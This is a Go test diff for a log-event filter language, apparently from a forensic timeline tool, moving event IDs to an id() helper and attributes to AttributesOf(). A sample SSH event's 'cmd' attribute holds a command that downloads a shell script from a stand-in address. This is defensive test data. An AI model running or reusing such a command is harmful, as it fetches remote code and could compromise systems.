@@ -24,9 +24,9 @@ func mustParse(t *testing.T, text string) Filter {
 // more is given.
 func TestFilterMatches(t *testing.T) {
 	ssh := Event{
-		ID: "0123456789ABCDEFGHIJKLMNO0", Time: now.Add(-time.Hour), Precision: Second, TimeKind: Logged, Source: "auth", Parser: "syslog",
+		ID: id("sample"), Time: now.Add(-time.Hour), Precision: Second, TimeKind: Logged, Source: "auth", Parser: "syslog",
 		Host: "web-1", User: "root", Message: "Failed password for root from 203.0.113.9 port 51122 ssh2",
-		Attributes: map[string]string{"program": "sshd", "pid": "4711", "cmd": "curl -s http://198.51.100.7/x.sh", "sp ace": "v"},
+		Attributes: AttributesOf(map[string]string{"program": "sshd", "pid": "4711", "cmd": "curl -s http://198.51.100.7/x.sh", "sp ace": "v"}),
 		Exhibit:    "e3", Offset: 1300, Technique: "T1110.001",
 	}
 	text := func(s string) Event { return Event{Message: s} }
@@ -96,7 +96,7 @@ func TestFilterMatches(t *testing.T) {
 		{`user:*`, text("x"), false},
 		{`user:""`, text("x"), true},
 		{`source:auth parser:syslog kind:logged precision:s exhibit:e3`, ssh, true},
-		{`id:0123456789abcdefghijklmno0`, ssh, true},
+		{`id:r774cjb84oacgitt0000000000`, ssh, true},
 		{`technique:T1110`, ssh, true},
 		{`technique:t1110.001`, ssh, true},
 		{`technique:T1110.002`, ssh, false},
@@ -113,7 +113,7 @@ func TestFilterMatches(t *testing.T) {
 		{`attr.program:>1`, ssh, false},
 		{`attr.none:<1`, ssh, false},
 		{`offset:>=1300 offset:<1300.5`, ssh, true},
-		{`attr.n:>9007199254740992`, Event{Attributes: map[string]string{"n": "9007199254740993"}}, true},
+		{`attr.n:>9007199254740992`, Event{Attributes: AttributesOf(map[string]string{"n": "9007199254740993"})}, true},
 		// addresses
 		{`ip:203.0.113.0/24`, ssh, true},
 		{`ip:198.51.100.7`, ssh, true},
@@ -185,9 +185,9 @@ func TestFilterMatches(t *testing.T) {
 
 func TestFilterMarks(t *testing.T) {
 	marks := []Mark{
-		{Event: "1", Star: true, Comments: []string{"the Pivot host"}},
-		{Event: "2", Tags: []string{"pivot", "T1486"}},
-		{Event: "3"},
+		{Event: id("1"), Star: true, Comments: []string{"the Pivot host"}},
+		{Event: id("2"), Tags: []string{"pivot", "T1486"}},
+		{Event: id("3")},
 	}
 	for filter, want := range map[string]string{
 		"star:": "1", "star:yes": "1", "-star:": "23", "star:no": "23", "tag:PIVOT": "2", "tag:piv*": "2", "tag:x,t1486": "2", "tag:*": "2",
@@ -199,9 +199,9 @@ func TestFilterMarks(t *testing.T) {
 		}
 		f = f.Marked(marks)
 		got := ""
-		for _, id := range []string{"1", "2", "3"} {
-			if f.Match(Event{ID: id}) {
-				got += id
+		for _, name := range []string{"1", "2", "3"} {
+			if f.Match(Event{ID: id(name)}) {
+				got += name
 			}
 		}
 		if got != want {
@@ -359,7 +359,7 @@ func FuzzParseFilter(f *testing.F) {
 			t.Fatalf("%q writes itself as %q, then as %q", text, filter, again)
 		}
 		for _, e := range []Event{
-			{ID: message, Message: message, Host: message, Time: now, Attributes: map[string]string{"a": message, message: "b"}, Technique: message},
+			{ID: id(message), Message: message, Host: message, Time: now, Attributes: AttributesOf(map[string]string{"a": message, message: "b"}), Technique: message},
 			{User: message, Message: text},
 		} {
 			if filter.Match(e) != again.Match(e) {
